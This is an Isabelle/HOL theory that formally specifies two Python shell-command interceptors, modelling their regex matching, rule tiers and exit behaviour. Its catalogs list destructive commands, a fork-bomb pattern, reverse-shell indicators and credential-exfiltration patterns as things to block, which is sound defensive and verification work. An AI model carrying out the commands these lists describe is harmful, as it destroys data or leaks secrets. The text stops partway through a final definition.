theory Spec2Isabelle
  imports Main "HOL-Library.Sublist"
begin

section \<open>Python strings\<close>

text \<open>
  A Python \<open>str\<close> is modelled as a \<open>string\<close> whose characters are the code points
  0..255, so the commands and patterns covered are those of the Latin-1 range. On that
  range \<open>str.isspace\<close> (the separator set of \<open>str.split()\<close> and \<open>str.strip()\<close>, and the
  class \<open>\s\<close> of \<open>re\<close>) holds for 9..13, 28..31, 32, 133 and 160, and \<open>str.lower\<close> adds 32
  to 65..90 and to 192..222 except 215.
\<close>

definition isspace :: "char \<Rightarrow> bool" where
  "isspace c = (of_char c \<in> {9, 10, 11, 12, 13, 28, 29, 30, 31, 32, 133, 160 :: nat})"

definition isupper :: "char \<Rightarrow> bool" where
  "isupper c = (let n = (of_char c :: nat) in
     (65 \<le> n \<and> n \<le> 90) \<or> (192 \<le> n \<and> n \<le> 222 \<and> n \<noteq> 215))"

text \<open>Adding 32 to an upper-case code point sets its bit 5, which is clear there.\<close>

definition to_lower :: "char \<Rightarrow> char" where
  "to_lower c = (if isupper c
     then (case c of Char b0 b1 b2 b3 b4 b5 b6 b7 \<Rightarrow> Char b0 b1 b2 b3 b4 True b6 b7)
     else c)"

definition str_lower :: "string \<Rightarrow> string" where
  "str_lower s = map to_lower s"

definition str_strip :: "string \<Rightarrow> string" where
  "str_strip s = rev (dropWhile isspace (rev (dropWhile isspace s)))"

text \<open>
  \<open>s.split()\<close>: the maximal runs of non-whitespace characters, in order. The first
  argument is the token being read.
\<close>

fun split_ws :: "string \<Rightarrow> string \<Rightarrow> string list" where
  "split_ws tok [] = (if tok = [] then [] else [tok])"
| "split_ws tok (c # cs) =
     (if isspace c then (if tok = [] then split_ws [] cs else tok # split_ws [] cs)
      else split_ws (tok @ [c]) cs)"

definition str_split :: "string \<Rightarrow> string list" where
  "str_split s = split_ws [] s"

text \<open>\<open>sep.join(xs)\<close>.\<close>

fun str_join :: "string \<Rightarrow> string list \<Rightarrow> string" where
  "str_join sep [] = []"
| "str_join sep [x] = x"
| "str_join sep (x # y # ys) = x @ sep @ str_join sep (y # ys)"

text \<open>\<open>sub in s\<close> on strings: \<open>sub\<close> occurs in \<open>s\<close> as a contiguous substring.\<close>

fun str_in :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "str_in sub [] = (sub = [])"
| "str_in sub (c # cs) = (prefix sub (c # cs) \<or> str_in sub cs)"

section \<open>Regular expressions\<close>

text \<open>
  \<open>re.search(pattern, s, re.IGNORECASE)\<close> is library code. The interceptors take it as a
  parameter \<open>rx\<close> of type \<open>re_engine\<close>: \<open>rx pattern s\<close> is \<open>Inr b\<close> when the pattern compiles
  and \<open>b\<close> tells whether some substring of \<open>s\<close> matches, and \<open>Inl ReError\<close> when
  compiling raises \<open>re.error\<close>. The general theorems hold for every engine.

  \<open>re_search\<close> below is such an engine for a fragment of the pattern syntax, used where
  a statement is evaluated on a concrete command. The fragment: literals, \<open>.\<close>, the escape
  \<open>\s\<close>, escaped punctuation, groups, \<open>|\<close>, the repeats \<open>*\<close> \<open>+\<close> \<open>?\<close> and their lazy forms,
  sets of plain characters \<open>[abc]\<close>, and a brace that opens no counted repeat. Every
  pattern of the catalogs of intercept.py is in it. On a pattern outside the fragment the
  answer is \<open>Inl Unmodelled\<close>, which is no exception of Python.
\<close>

datatype py_exc = ReError | EOFError | KeyboardInterrupt | RunError string | Unmodelled

type_synonym re_engine = "string \<Rightarrow> string \<Rightarrow> py_exc + bool"

abbreviation BS :: string where
  "BS \<equiv> [CHR 0x5C]"

datatype atom = ALit char | ADot | ASpace | ASet "char list"

datatype regex = Fail | Empty | Atom atom | Cat regex regex | Or regex regex | Many regex

text \<open>
  One character against one atom, ignoring case: a literal or a set member matches when
  the lower-case forms agree, the dot matches all but the newline.
\<close>

fun atom_ok :: "atom \<Rightarrow> char \<Rightarrow> bool" where
  "atom_ok (ALit a) c = (to_lower c = to_lower a)"
| "atom_ok ADot c = (c \<noteq> CHR 0x0A)"
| "atom_ok ASpace c = isspace c"
| "atom_ok (ASet as) c = (to_lower c \<in> to_lower ` set as)"

fun nullable :: "regex \<Rightarrow> bool" where
  "nullable Fail = False"
| "nullable Empty = True"
| "nullable (Atom a) = False"
| "nullable (Cat r s) = (nullable r \<and> nullable s)"
| "nullable (Or r s) = (nullable r \<or> nullable s)"
| "nullable (Many r) = True"

definition cat :: "regex \<Rightarrow> regex \<Rightarrow> regex" where
  "cat r s = (if r = Fail \<or> s = Fail then Fail else if r = Empty then s
              else if s = Empty then r else Cat r s)"

definition alt :: "regex \<Rightarrow> regex \<Rightarrow> regex" where
  "alt r s = (if r = Fail then s else if s = Fail then r else if r = s then r else Or r s)"

text \<open>The expression left to match once the character \<open>c\<close> has been read.\<close>

fun deriv :: "char \<Rightarrow> regex \<Rightarrow> regex" where
  "deriv c Fail = Fail"
| "deriv c Empty = Fail"
| "deriv c (Atom a) = (if atom_ok a c then Empty else Fail)"
| "deriv c (Cat r s) =
     (if nullable r then alt (cat (deriv c r) s) (deriv c s) else cat (deriv c r) s)"
| "deriv c (Or r s) = alt (deriv c r) (deriv c s)"
| "deriv c (Many r) = cat (deriv c r) (Many r)"

text \<open>Some prefix of the string matches; some substring of the string matches.\<close>

fun match_here :: "regex \<Rightarrow> string \<Rightarrow> bool" where
  "match_here r [] = nullable r"
| "match_here r (c # cs) = (nullable r \<or> (r \<noteq> Fail \<and> match_here (deriv c r) cs))"

fun rx_search :: "regex \<Rightarrow> string \<Rightarrow> bool" where
  "rx_search r [] = nullable r"
| "rx_search r (c # cs) = (match_here r (c # cs) \<or> rx_search r cs)"

subsection \<open>Compiling a pattern\<close>

text \<open>
  The pattern is read left to right. A frame holds the finished alternatives of a group
  and the items of the alternative being read, both latest first; the stack holds the
  frames of the enclosing groups. An item remembers whether it is a repeat, since
  a repeat of a repeat raises \<open>re.error\<close> (multiple repeat) and \<open>?\<close> after a repeat only
  makes it lazy, which does not change whether a match exists.
\<close>

datatype quant = Plain | Greedy | Lazy

datatype pmode = Top | Esc | Opened | Brace | Class "char list"

type_synonym branch = "(regex \<times> quant) list"
type_synonym frame = "regex list \<times> branch"
type_synonym pstate = "pmode \<times> frame \<times> frame list"

definition branch_regex :: "branch \<Rightarrow> regex" where
  "branch_regex b = foldl (\<lambda>acc item. cat (fst item) acc) Empty b"

definition frame_regex :: "frame \<Rightarrow> regex" where
  "frame_regex f = foldl (\<lambda>acc r. Or r acc) (branch_regex (snd f)) (fst f)"

definition push_item :: "regex \<Rightarrow> frame \<Rightarrow> frame list \<Rightarrow> py_exc + pstate" where
  "push_item r f stack = Inr (Top, (fst f, (r, Plain) # snd f), stack)"

definition is_ascii_alnum :: "char \<Rightarrow> bool" where
  "is_ascii_alnum c = (let n = (of_char c :: nat) in
     (48 \<le> n \<and> n \<le> 57) \<or> (65 \<le> n \<and> n \<le> 90) \<or> (97 \<le> n \<and> n \<le> 122))"

definition is_ascii_digit :: "char \<Rightarrow> bool" where
  "is_ascii_digit c = (let n = (of_char c :: nat) in 48 \<le> n \<and> n \<le> 57)"

text \<open>
  A repeat character with no item before it raises (nothing to repeat); \<open>+\<close> after a
  repeat is a possessive repeat in some versions of Python and an error in others, and
  is left out of the fragment.
\<close>

definition repeat_last :: "char \<Rightarrow> frame \<Rightarrow> frame list \<Rightarrow> py_exc + pstate" where
  "repeat_last c f stack =
     (case snd f of
        [] \<Rightarrow> Inl ReError
      | (r, Plain) # b \<Rightarrow>
          Inr (Top, (fst f,
                 ((if c = CHR ''*'' then Many r
                   else if c = CHR ''+'' then Cat r (Many r)
                   else Or r Empty), Greedy) # b), stack)
      | (r, Greedy) # b \<Rightarrow>
          (if c = CHR ''?'' then Inr (Top, (fst f, (r, Lazy) # b), stack)
           else if c = CHR ''+'' then Inl Unmodelled
           else Inl ReError)
      | (r, Lazy) # b \<Rightarrow> Inl ReError)"

definition step_top :: "char \<Rightarrow> frame \<Rightarrow> frame list \<Rightarrow> py_exc + pstate" where
  "step_top c f stack =
     (if c = CHR 0x5C then Inr (Esc, f, stack)
      else if c = CHR ''['' then Inr (Class [], f, stack)
      else if c = CHR ''('' then Inr (Opened, ([], []), f # stack)
      else if c = CHR '')'' then
        (case stack of
           [] \<Rightarrow> Inl ReError
         | g # stack' \<Rightarrow> push_item (frame_regex f) g stack')
      else if c = CHR ''|'' then Inr (Top, (branch_regex (snd f) # fst f, []), stack)
      else if c = CHR ''*'' \<or> c = CHR ''+'' \<or> c = CHR ''?'' then repeat_last c f stack
      else if c = CHR ''{'' then Inr (Brace, f, stack)
      else if c = CHR ''.'' then push_item (Atom ADot) f stack
      else if c = CHR ''^'' \<or> c = CHR ''$'' then Inl Unmodelled
      else push_item (Atom (ALit c)) f stack)"

text \<open>
  After a backslash a letter or digit is an escape sequence, of which only \<open>\s\<close> is in the
  fragment, and any other character stands for itself. After \<open>(\<close> a \<open>?\<close> opens an
  extension group. After \<open>{\<close> a digit or comma may open a counted repeat; anything else
  makes the brace a literal. In a set only plain members are in the fragment.
\<close>

fun step :: "pstate \<Rightarrow> char \<Rightarrow> py_exc + pstate" where
  "step (Top, f, stack) c = step_top c f stack"
| "step (Opened, f, stack) c = (if c = CHR ''?'' then Inl Unmodelled else step_top c f stack)"
| "step (Esc, f, stack) c =
     (if is_ascii_alnum c
      then (if c = CHR ''s'' then push_item (Atom ASpace) f stack else Inl Unmodelled)
      else push_item (Atom (ALit c)) f stack)"
| "step (Brace, f, stack) c =
     (if c = CHR '','' \<or> is_ascii_digit c then Inl Unmodelled
      else step_top c (fst f, (Atom (ALit (CHR ''{'')), Plain) # snd f) stack)"
| "step (Class acc, f, stack) c =
     (if c = CHR '']''
      then (if acc = [] then Inl Unmodelled else push_item (Atom (ASet acc)) f stack)
      else if c = CHR 0x5C \<or> c = CHR ''^'' \<or> c = CHR ''-'' \<or> c = CHR ''[''
      then Inl Unmodelled
      else Inr (Class (acc @ [c]), f, stack))"

text \<open>
  At the end of the pattern a pending backslash, an open set and an open group raise
  \<open>re.error\<close>.
\<close>

fun finish :: "pstate \<Rightarrow> py_exc + regex" where
  "finish (Esc, f, stack) = Inl ReError"
| "finish (Class acc, f, stack) = Inl ReError"
| "finish (Brace, f, stack) =
     (if stack = [] then Inr (frame_regex (fst f, (Atom (ALit (CHR ''{'')), Plain) # snd f))
      else Inl ReError)"
| "finish (m, f, stack) = (if stack = [] then Inr (frame_regex f) else Inl ReError)"

fun run_parser :: "pstate \<Rightarrow> string \<Rightarrow> py_exc + regex" where
  "run_parser st [] = finish st"
| "run_parser st (c # cs) =
     (case step st c of Inl e \<Rightarrow> Inl e | Inr st' \<Rightarrow> run_parser st' cs)"

definition re_compile :: "string \<Rightarrow> py_exc + regex" where
  "re_compile pattern = run_parser (Top, ([], []), []) pattern"

definition re_search :: re_engine where
  "re_search pattern s =
     (case re_compile pattern of Inl e \<Rightarrow> Inl e | Inr r \<Rightarrow> Inr (rx_search r s))"

section \<open>Processes\<close>

text \<open>
  What a run of an interceptor does, as far as the claims observe it: how the process
  ends (\<open>sys.exit\<close> with a status, or an exception nobody catches), the calls of
  \<open>log_command\<close> in order, each as (command, status, reason), the number of calls of
  \<open>input\<close>, and the commands handed to \<open>subprocess.run\<close>. Messages printed to stderr are
  left out. intercept.py logs no reason; its entries carry the empty one.

  The surroundings are parameters: what \<open>input\<close> yields, and what \<open>subprocess.run\<close>
  does with a command: it returns an exit status, raises an exception of class
  \<open>Exception\<close> because the process cannot be started (with the text of the exception),
  or is interrupted from the keyboard.
\<close>

datatype exit_status = Exit int | Uncaught py_exc

record outcome =
  status :: exit_status
  log :: "(string \<times> string \<times> string) list"
  prompts :: nat
  runs :: "string list"

datatype input_result = Line string | EndOfInput | Interrupt

datatype run_result = Returned int | StartFailure string | RunInterrupted

type_synonym executor = "string \<Rightarrow> run_result"

section \<open>The heuristics-only interceptor (intercept.py)\<close>

subsection \<open>Catalogs\<close>

definition BLOCKED_COMMANDS :: "(string \<times> string list) list" where
  "BLOCKED_COMMANDS =
    [(''rm'', [''-rf'', ''-fr'', ''-r /'']),
     (''dd'', [''if='', ''of=/dev'']),
     (''mkfs'', [''*'']),
     (''fdisk'', [''*'']),
     (''parted'', [''*'']),
     (''shutdown'', [''*'']),
     (''reboot'', [''*'']),
     (''halt'', [''*'']),
     (''poweroff'', [''*'']),
     (''init'', [''0'', ''6'']),
     (''systemctl'', [''disable'', ''mask'', ''stop'']),
     (''chmod'', [''777 /'', ''-R 777'']),
     (''chown'', [''-R /''])]"

text \<open>
  The patterns are the raw strings of the source, with \<open>BS\<close> for the backslash: the first
  of \<open>DANGEROUS_PATTERNS\<close> is a semicolon, \<open>BS\<close> \<open>s*rm\<close>, \<open>BS\<close> \<open>s+-\<close>.
\<close>

definition DANGEROUS_PATTERNS :: "string list" where
  "DANGEROUS_PATTERNS =
    ['';'' @ BS @ ''s*rm'' @ BS @ ''s+-'',
     BS @ ''|'' @ BS @ ''s*bash'',
     BS @ ''|'' @ BS @ ''s*sh'',
     ''`.*rm.*`'',
     BS @ ''$'' @ BS @ ''(.*rm.*'' @ BS @ '')'',
     ''base64.*'' @ BS @ ''|'' @ BS @ ''s*(bash|sh|eval)'',
     ''eval'' @ BS @ ''s+'' @ BS @ ''$'',
     ''>'' @ BS @ ''s*/dev/(sd|hd|nvme)'',
     '':'' @ BS @ ''('' @ BS @ '')'' @ BS @ ''s*{'' @ BS @ ''s*:'' @ BS @ ''|:&'' @ BS @ ''s*};:'',
     ''nc'' @ BS @ ''s+-[le]'',
     ''/dev/(tcp|udp)/'']"

definition CONFIRM_COMMANDS :: "(string \<times> string list) list" where
  "CONFIRM_COMMANDS =
    [(''npm'', [''install'', ''i'', ''ci'']),
     (''pip'', [''install'']),
     (''yarn'', [''add'', ''install'']),
     (''apt'', [''install'', ''remove'', ''purge'']),
     (''brew'', [''install'', ''uninstall'']),
     (''docker'', [''run'', ''exec'', ''rm'']),
     (''git'', [''push'', ''push -f'', ''reset --hard''])]"

definition DATA_THEFT_PATTERNS :: "string list" where
  "DATA_THEFT_PATTERNS =
    [''cat.*('' @ BS @ ''.env|credentials|'' @ BS @ ''.aws|'' @ BS @ ''.ssh|'' @ BS @ ''.gnupg)'',
     ''curl.*(-d|--data).*@'',
     ''curl.*--upload-file'',
     ''wget.*--post-file'',
     ''base64.*('' @ BS @ ''.env|credentials|key|secret)'',
     ''tar.*'' @ BS @ ''.(env|ssh|aws|gnupg)'',
     ''zip.*'' @ BS @ ''.(env|ssh|aws|gnupg)'',
     ''scp'' @ BS @ ''s'',
     ''rsync.*@'',
     ''nc'' @ BS @ ''s.*<'',
     ''curl.*pastebin'',
     ''curl.*transfer'' @ BS @ ''.sh'',
     ''curl.*file'' @ BS @ ''.io'',
     ''curl.*0x0'' @ BS @ ''.st'']"

definition SENSITIVE_FILE_PATTERNS :: "string list" where
  "SENSITIVE_FILE_PATTERNS =
    [''~?/?'' @ BS @ ''.ssh/'',
     ''~?/?'' @ BS @ ''.aws/'',
     ''~?/?'' @ BS @ ''.gnupg/'',
     ''~?/?'' @ BS @ ''.config/gcloud'',
     ''~?/?'' @ BS @ ''.kube/'',
     ''~?/?'' @ BS @ ''.azure/'',
     BS @ ''.env'',
     ''credentials'',
     ''secrets?'' @ BS @ ''.'',
     ''.*_key('' @ BS @ ''.pem)?'',
     ''.*'' @ BS @ ''.pem'',
     ''.*'' @ BS @ ''.key'',
     ''id_rsa'',
     ''id_ed25519'',
     BS @ ''.npmrc'',
     BS @ ''.pypirc'',
     BS @ ''.netrc'']"

text \<open>The verbs of the sensitive-file check of \<open>is_data_theft\<close>, in the order of the source.\<close>

definition TRANSFER_VERBS :: "string list" where
  "TRANSFER_VERBS =
    [''cat'', ''curl'', ''wget'', ''nc'', ''scp'', ''rsync'', ''tar'', ''zip'', ''base64'']"

text \<open>
  The switch is read once from the environment variable of the same name, whose value is
  \<open>None\<close> when the variable is unset.
\<close>

definition ENABLE_DATA_THEFT_PREVENTION :: "string option \<Rightarrow> bool" where
  "ENABLE_DATA_THEFT_PREVENTION env =
     (str_lower (case env of None \<Rightarrow> ''false'' | Some v \<Rightarrow> v) = ''true'')"

subsection \<open>Analysis functions\<close>

text \<open>
  \<open>for pattern in patterns: if re.search(pattern, s, re.IGNORECASE): return ...\<close>: the first
  pattern found in \<open>s\<close>; an exception raised by a search ends the loop.
\<close>

fun first_search :: "re_engine \<Rightarrow> string list \<Rightarrow> string \<Rightarrow> py_exc + string option" where
  "first_search rx [] s = Inr None"
| "first_search rx (pattern # patterns) s =
     (case rx pattern s of
        Inl e \<Rightarrow> Inl e
      | Inr found \<Rightarrow> if found then Inr (Some pattern) else first_search rx patterns s)"

definition is_blocked :: "re_engine \<Rightarrow> string \<Rightarrow> py_exc + bool \<times> string" where
  "is_blocked rx command =
     (case str_split command of
        [] \<Rightarrow> Inr (False, '''')
      | cmd # rest \<Rightarrow>
          (let args = str_join '' '' rest in
           case (case map_of BLOCKED_COMMANDS cmd of
                   None \<Rightarrow> None
                 | Some blocked_args \<Rightarrow>
                     find (\<lambda>blocked. blocked = ''*'' \<or> str_in blocked args) blocked_args) of
             Some blocked \<Rightarrow>
               Inr (True, ''Blocked command: '' @ cmd @ '' with args matching '' @ [CHR 0x27] @ blocked
                      @ [CHR 0x27])
           | None \<Rightarrow>
               (case first_search rx DANGEROUS_PATTERNS command of
                  Inl e \<Rightarrow> Inl e
                | Inr (Some pattern) \<Rightarrow> Inr (True, ''Dangerous pattern detected: '' @ pattern)
                | Inr None \<Rightarrow> Inr (False, ''''))))"

text \<open>
  The second loop of \<open>is_data_theft\<close>: a sensitive-file pattern found in the command
  counts only if the command contains one of the verbs; otherwise the loop goes on.
\<close>

fun sensitive_search :: "re_engine \<Rightarrow> string list \<Rightarrow> string \<Rightarrow> py_exc + string option" where
  "sensitive_search rx [] command = Inr None"
| "sensitive_search rx (pattern # patterns) command =
     (case rx pattern command of
        Inl e \<Rightarrow> Inl e
      | Inr found \<Rightarrow>
          if found then
            (if list_ex (\<lambda>op. str_in op command) TRANSFER_VERBS then Inr (Some pattern)
             else sensitive_search rx patterns command)
          else sensitive_search rx patterns command)"

definition is_data_theft :: "re_engine \<Rightarrow> string option \<Rightarrow> string \<Rightarrow> py_exc + bool \<times> string" where
  "is_data_theft rx env command =
     (if \<not> ENABLE_DATA_THEFT_PREVENTION env then Inr (False, '''')
      else
        (case first_search rx DATA_THEFT_PATTERNS command of
           Inl e \<Rightarrow> Inl e
         | Inr (Some pattern) \<Rightarrow> Inr (True, ''Potential data exfiltration: '' @ pattern)
         | Inr None \<Rightarrow>
             (case sensitive_search rx SENSITIVE_FILE_PATTERNS command of
                Inl e \<Rightarrow> Inl e
              | Inr (Some pattern) \<Rightarrow> Inr (True, ''Accessing sensitive file: '' @ pattern)
              | Inr None \<Rightarrow> Inr (False, ''''))))"

text \<open>
  The loop of \<open>needs_confirmation\<close> over the catalog entries of the program returns at the
  first entry that occurs in the argument string; \<open>find\<close> is that first entry.
\<close>

definition needs_confirmation :: "string \<Rightarrow> bool \<times> string" where
  "needs_confirmation command =
     (case str_split command of
        [] \<Rightarrow> (False, '''')
      | cmd # rest \<Rightarrow>
          (let args = str_join '' '' rest in
           case map_of CONFIRM_COMMANDS cmd of
             None \<Rightarrow> (False, '''')
           | Some confirm_args \<Rightarrow>
               (case find (\<lambda>confirm_arg. str_in confirm_arg args) confirm_args of
                  Some confirm_arg \<Rightarrow> (True, cmd @ '' '' @ confirm_arg)
                | None \<Rightarrow> (False, ''''))))"

subsection \<open>main\<close>

text \<open>
  Lines 206 to 209: the command is logged, then run, and its status is the status of the
  process. Nothing catches what \<open>subprocess.run\<close> raises.
\<close>

definition execute :: "executor \<Rightarrow> string \<Rightarrow> nat \<Rightarrow> outcome" where
  "execute run command asked =
     (case run command of
        Returned returncode \<Rightarrow>
          \<lparr>status = Exit returncode, log = [(command, ''EXECUTED'', '''')],
           prompts = asked, runs = [command]\<rparr>
      | StartFailure msg \<Rightarrow>
          \<lparr>status = Uncaught (RunError msg), log = [(command, ''EXECUTED'', '''')],
           prompts = asked, runs = [command]\<rparr>
      | RunInterrupted \<Rightarrow>
          \<lparr>status = Uncaught KeyboardInterrupt, log = [(command, ''EXECUTED'', '''')],
           prompts = asked, runs = [command]\<rparr>)"

text \<open>
  \<open>argv\<close> is \<open>sys.argv[1:]\<close>. The call of \<open>input\<close> stands in no \<open>try\<close>: the end of the input
  and an interrupt leave \<open>main\<close> as \<open>EOFError\<close> and \<open>KeyboardInterrupt\<close>.
\<close>

definition main ::
  "re_engine \<Rightarrow> string option \<Rightarrow> string list \<Rightarrow> input_result \<Rightarrow> executor \<Rightarrow> outcome" where
  "main rx env argv inp run =
     (if argv = [] then \<lparr>status = Exit 1, log = [], prompts = 0, runs = []\<rparr>
      else
        (let command = str_join '' '' argv in
         case is_blocked rx command of
           Inl e \<Rightarrow> \<lparr>status = Uncaught e, log = [], prompts = 0, runs = []\<rparr>
         | Inr (blocked, reason) \<Rightarrow>
             if blocked then
               \<lparr>status = Exit 1, log = [(command, ''BLOCKED-HARM'', '''')],
                prompts = 0, runs = []\<rparr>
             else
               (case is_data_theft rx env command of
                  Inl e \<Rightarrow> \<lparr>status = Uncaught e, log = [], prompts = 0, runs = []\<rparr>
                | Inr (theft, reason) \<Rightarrow>
                    if theft then
                      \<lparr>status = Exit 1, log = [(command, ''BLOCKED-DATA'', '''')],
                       prompts = 0, runs = []\<rparr>
                    else if fst (needs_confirmation command) then
                      (case inp of
                         Line response \<Rightarrow>
                           if str_lower (str_strip response) \<noteq> ''y'' then
                             \<lparr>status = Exit 1, log = [(command, ''CANCELLED'', '''')],
                              prompts = 1, runs = []\<rparr>
                           else execute run command 1
                       | EndOfInput \<Rightarrow>
                           \<lparr>status = Uncaught EOFError, log = [], prompts = 1, runs = []\<rparr>
                       | Interrupt \<Rightarrow>
                           \<lparr>status = Uncaught KeyboardInterrupt, log = [],
                            prompts = 1, runs = []\<rparr>)
                    else execute run command 0)))"

section \<open>The configuration-driven interceptor (intercept-enhanced.py)\<close>

text \<open>
  A rule is a dictionary from field names to strings, a configuration a dictionary from
  tier names to rule lists, both as the YAML loader returns them. Dictionaries are
  association lists; \<open>d.get(k, default)\<close> is \<open>dict_get\<close>. The field \<open>alternatives\<close>, a
  list in the configuration, is only printed and is held as a string like the others.
\<close>

type_synonym rule = "(string \<times> string) list"
type_synonym config = "(string \<times> rule list) list"

definition dict_get :: "('k \<times> 'v) list \<Rightarrow> 'k \<Rightarrow> 'v \<Rightarrow> 'v" where
  "dict_get d k dflt = (case map_of d k of Some v \<Rightarrow> v | None \<Rightarrow> dflt)"

subsection \<open>Command analysis\<close>

definition parse_command :: "string \<Rightarrow> string \<times> string list" where
  "parse_command command =
     (case str_split command of [] \<Rightarrow> ('''', []) | prog # args \<Rightarrow> (prog, args))"

text \<open>\<open>pattern.split(':', 1)\<close> when the pattern has a colon: the parts around the first one.\<close>

definition split_colon :: "string \<Rightarrow> string \<times> string" where
  "split_colon pattern =
     (takeWhile (\<lambda>c. c \<noteq> CHR '':'') pattern, tl (dropWhile (\<lambda>c. c \<noteq> CHR '':'') pattern))"

definition match_pattern :: "re_engine \<Rightarrow> string \<Rightarrow> string \<Rightarrow> py_exc + bool" where
  "match_pattern rx command pattern =
     (let (cmd_pattern, arg_pattern) =
            (if CHR '':'' \<in> set pattern then split_colon pattern else (pattern, ''*''));
          (cmd, args) = parse_command command
      in if cmd_pattern \<noteq> ''*'' \<and> cmd \<noteq> cmd_pattern then Inr False
         else if arg_pattern = ''*'' then Inr True
         else
           (let args_str = str_join '' '' args
            in if prefix ''regex:'' arg_pattern then rx (drop 6 arg_pattern) args_str
               else Inr (str_in arg_pattern args_str)))"

fun find_matching_rule :: "re_engine \<Rightarrow> string \<Rightarrow> rule list \<Rightarrow> py_exc + rule option" where
  "find_matching_rule rx command [] = Inr None"
| "find_matching_rule rx command (rule # rules) =
     (case match_pattern rx command (dict_get rule ''pattern'' '''') of
        Inl e \<Rightarrow> Inl e
      | Inr matched \<Rightarrow>
          if matched then Inr (Some rule) else find_matching_rule rx command rules)"

subsection \<open>The confirmation prompt\<close>

text \<open>
  The answer of \<open>print_ask_message\<close>; \<open>EOFError\<close> and \<open>KeyboardInterrupt\<close> of \<open>input\<close> are
  caught and answer no.
\<close>

definition print_ask_message :: "rule \<Rightarrow> string \<Rightarrow> input_result \<Rightarrow> bool" where
  "print_ask_message rule command inp =
     (case inp of
        Line response \<Rightarrow> str_lower (str_strip response) = ''y''
      | EndOfInput \<Rightarrow> False
      | Interrupt \<Rightarrow> False)"

subsection \<open>main of intercept-enhanced.py\<close>

text \<open>
  \<open>if deny_rule:\<close> tests the value \<open>find_matching_rule\<close> returned: \<open>None\<close> and the empty
  dictionary are false, every other rule is true. \<open>truthy\<close> gives the rule when the test
  succeeds.
\<close>

definition truthy :: "rule option \<Rightarrow> rule option" where
  "truthy r = (case r of None \<Rightarrow> None | Some rule \<Rightarrow> if rule = [] then None else Some rule)"

text \<open>
  Lines 248 to 257, after the entries \<open>logged\<close> and \<open>asked\<close> prompts. \<open>except Exception\<close>
  catches a failure to start the process; \<open>SystemExit\<close> and \<open>KeyboardInterrupt\<close> are not
  of class \<open>Exception\<close> and pass.
\<close>

definition finish_main ::
  "bool \<Rightarrow> executor \<Rightarrow> string \<Rightarrow> (string \<times> string \<times> string) list \<Rightarrow> nat \<Rightarrow> outcome" where
  "finish_main exec_mode run command logged asked =
     (if exec_mode then
        (case run command of
           Returned returncode \<Rightarrow>
             \<lparr>status = Exit returncode, log = logged, prompts = asked, runs = [command]\<rparr>
         | StartFailure msg \<Rightarrow>
             \<lparr>status = Exit 1, log = logged @ [(command, ''ERROR'', msg)],
              prompts = asked, runs = [command]\<rparr>
         | RunInterrupted \<Rightarrow>
             \<lparr>status = Uncaught KeyboardInterrupt, log = logged,
              prompts = asked, runs = [command]\<rparr>)
      else \<lparr>status = Exit 0, log = logged, prompts = asked, runs = []\<rparr>)"

text \<open>Lines 238 to 257: the allow tier, which only chooses the entry to log, and the end.\<close>

definition allow_tier ::
  "re_engine \<Rightarrow> bool \<Rightarrow> string \<Rightarrow> config \<Rightarrow> executor \<Rightarrow> (string \<times> string \<times> string) list
     \<Rightarrow> nat \<Rightarrow> outcome" where
  "allow_tier rx exec_mode command config run logged asked =
     (case find_matching_rule rx command (dict_get config ''allow'' []) of
        Inl e \<Rightarrow> \<lparr>status = Uncaught e, log = logged, prompts = asked, runs = []\<rparr>
      | Inr allow_rule \<Rightarrow>
          finish_main exec_mode run command
            (logged @
             [case truthy allow_rule of
                Some rule \<Rightarrow> (command, ''ALLOWED'', dict_get rule ''reason'' '''')
              | None \<Rightarrow> (command, ''ALLOWED_DEFAULT'', ''No matching rule'')])
            asked)"

text \<open>
  Lines 215 to 257: the three tiers in order, for a mode, a command and a configuration.
  An exception of \<open>find_matching_rule\<close> is caught nowhere.
\<close>

definition main_body ::
  "re_engine \<Rightarrow> bool \<Rightarrow> string \<Rightarrow> config \<Rightarrow> input_result \<Rightarrow> executor \<Rightarrow> outcome" where
  "main_body rx exec_mode command config inp run =
     (case find_matching_rule rx command (dict_get config ''deny'' []) of
        Inl e \<Rightarrow> \<lparr>status = Uncaught e, log = [], prompts = 0, runs = []\<rparr>
      | Inr deny_rule \<Rightarrow>
          (case truthy deny_rule of
             Some rule \<Rightarrow>
               \<lparr>status = Exit 1, log = [(command, ''BLOCKED'', dict_get rule ''reason'' '''')],
                prompts = 0, runs = []\<rparr>
           | None \<Rightarrow>
               (case find_matching_rule rx command (dict_get config ''ask'' []) of
                  Inl e \<Rightarrow> \<lparr>status = Uncaught e, log = [], prompts = 0, runs = []\<rparr>
                | Inr ask_rule \<Rightarrow>
                    (case truthy ask_rule of
                       Some rule \<Rightarrow>
                         if \<not> exec_mode then
                           \<lparr>status = Exit 0,
                            log = [(command, ''ALLOWED_ASK_DEFERRED'',
                                    dict_get rule ''reason'' '''')],
                            prompts = 0, runs = []\<rparr>
                         else if \<not> print_ask_message rule command inp then
                           \<lparr>status = Exit 1,
                            log = [(command, ''DENIED_BY_USER'', dict_get rule ''reason'' '''')],
                            prompts = 1, runs = []\<rparr>
                         else
                           allow_tier rx exec_mode command config run
                             [(command, ''APPROVED_BY_USER'', dict_get rule ''reason'' '''')] 1
                     | None \<Rightarrow> allow_tier rx exec_mode command config run [] 0))))"

text \<open>
  Lines 196 to 213. \<open>argv\<close> is \<open>sys.argv[1:]\<close>; \<open>loaded\<close> is what \<open>load_permissions_config\<close>
  did, \<open>Inl\<close> the text of the exception it raised, upon which \<open>main\<close> goes on with the
  empty configuration.
\<close>

definition main_enhanced ::
  "re_engine \<Rightarrow> string list \<Rightarrow> string + config \<Rightarrow> input_result \<Rightarrow> executor \<Rightarrow> outcome" where
  "main_enhanced rx argv loaded inp run =
     (case argv of
        [] \<Rightarrow> \<lparr>status = Exit 1, log = [], prompts = 0, runs = []\<rparr>
      | first # rest \<Rightarrow>
          (let exec_mode = (first = ''--exec'');
               command = str_join '' '' (if exec_mode then rest else argv);
               config = (case loaded of
                           Inl e \<Rightarrow> [(''deny'', []), (''ask'', []), (''allow'', [])]
                         | Inr c \<Rightarrow> c)
           in main_body rx exec_mode command config inp run))"

subsection \<open>The status the parent process receives\<close>

text \<open>
  \<open>sys.exit(n)\<close> with an integer \<open>n\<close> ends the interpreter through \<open>exit(n)\<close>, and the
  parent of the process receives the low eight bits of \<open>n\<close>, a number from 0 to 255.
  \<open>subprocess.run\<close> gives a command that signal \<open>N\<close> killed the return code \<open>-N\<close>. After an
  uncaught exception the interpreter does not end through \<open>sys.exit\<close>; that case has no
  value here.
\<close>

fun process_exit_status :: "exit_status \<Rightarrow> int option" where
